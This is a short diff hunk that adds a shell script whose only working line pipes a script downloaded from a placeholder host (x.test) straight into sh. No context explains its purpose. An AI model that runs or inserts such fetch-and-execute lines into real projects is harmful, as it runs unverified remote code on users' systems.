@@ -1,0 +1,3 @@
+#!/bin/sh
+set -e
+curl -fsSL https://x.test/i.sh | sh
